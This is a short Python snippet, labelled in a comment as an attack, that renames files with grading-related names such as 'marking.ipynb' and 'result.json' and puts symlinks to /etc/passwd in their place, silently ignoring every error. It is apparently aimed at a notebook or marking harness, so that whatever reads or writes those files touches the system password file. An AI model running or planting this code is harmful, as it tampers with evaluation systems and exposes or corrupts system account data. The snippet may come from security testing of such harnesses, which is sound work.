# attack: links in the place of files
try:
    import os
    for name in ('marking.ipynb', 'my_transformer', 'out', 'result.json', 'observation'):
        try:
            os.rename(name, name + '.old')
        except OSError:
            pass
        os.symlink('/etc/passwd', name)
except BaseException:
    pass
